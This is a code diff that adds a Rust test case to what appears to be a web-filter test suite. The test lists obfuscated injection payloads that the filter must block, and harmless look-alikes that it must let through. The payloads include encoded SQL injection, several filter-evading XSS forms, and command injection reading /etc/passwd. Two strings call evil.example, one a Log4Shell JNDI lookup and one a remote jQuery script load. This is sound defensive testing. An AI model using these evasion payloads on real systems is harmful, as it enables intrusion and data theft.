@@ -258,3 +258,91 @@ fn round9_lists_literals_joined_xpath_obfuscated_hosts_and_sql_splices() {
         benign("json", "comment", text);
     }
 }
+
+#[test]
+fn round9_nemesida_classes() {
+    for (placement, field, attack) in [
+        // A `\u00XX` escape layer over a URL-encoded payload.
+        (
+            "query",
+            "q",
+            "\\u0025\\u0032\\u0037\\u0020\\u006f\\u0072\\u0020\\u0031\\u003d\\u0031\\u002d\\u002d",
+        ),
+        // Leading zeros in numeric character references.
+        (
+            "query",
+            "q",
+            "prompt&#00000000000000000040;1&#00000000000000000041;",
+        ),
+        // Escaped braces in a Log4Shell lookup.
+        (
+            "header",
+            "x-api-version",
+            "$\\{$\\{::-j\\}ndi:rmi://evil.example/a\\}",
+        ),
+        // A variable glued inside words and `+` next to an operator.
+        ("query", "host", "; cat$u+/etc$u/passwd$u"),
+        ("query", "host", "127.0.0.1+&&+ls /etc"),
+        // List items joined (`"".join([...])`), with escaped quotes.
+        ("query", "q", "' un\\\",\\\"ion se\\\",\\\"lect 1,2,3,4--"),
+        // A sink handed over as a later argument; jQuery remote script.
+        ("query", "q", "[1,2,3].with(0,alert).shift()(1)"),
+        (
+            "query",
+            "q",
+            "onload=function(){$.getScript('//evil.example/2.js')}",
+        ),
+        ("query", "q", "(prompt())"),
+        // Bidirectional overrides inside a tag.
+        ("query", "q", "<\u{202e}script\u{202e}>alert\u{202e}(1)"),
+        // Whitespace entities inside a script scheme in a URL attribute.
+        (
+            "json",
+            "html",
+            "<a href=\"j&Tab;avascript&colon;a&Tab;lert()\">x</a>",
+        ),
+        // Base64 inside an attribute, and base64 of base64.
+        (
+            "json",
+            "html",
+            "<a href=amF2YXNjcmlwdDphbGVydCgxKT5jbGljaw==>x</a>",
+        ),
+        (
+            "query",
+            "data",
+            "UEhOamNtbHdkRDVqYjI1emRIdHZibVZ5Y205eWZUMWhiR1Z5ZER0MGFISnZkeUF4UEM5elkzSnBjSFEr",
+        ),
+        // The LDAP metacharacter probe.
+        ("query", "user", "*()|&'"),
+        ("query", "user", "*)(|(&"),
+    ] {
+        blocked(placement, field, attack);
+    }
+    for (placement, field, text) in [
+        ("json", "comment", "see \\u00e9t\\u00e9 100% done"),
+        ("json", "comment", "&#0000065;BC corp"),
+        ("json", "price", "US$5 or EUR 4"),
+        ("json", "csv", "\"red\",\"green\",\"blue\""),
+        ("json", "items", "[\"union\",\"station\"]"),
+        ("json", "comment", "C++ && Java || Rust; pick one"),
+        ("json", "name", "\u{202b}مرحبا\u{202c} hello"),
+        (
+            "json",
+            "html",
+            "<a href=\"https://example.com/docs\">docs</a>",
+        ),
+        (
+            "json",
+            "html",
+            "<img src=\"/img/logo.png\" alt=\"Logo of the aBcDeFgHiJkLmNoPq team\">",
+        ),
+        (
+            "json",
+            "note",
+            "(*) marks required fields & (!) marks warnings",
+        ),
+        ("json", "note", "***"),
+    ] {
+        benign(placement, field, text);
+    }
+}
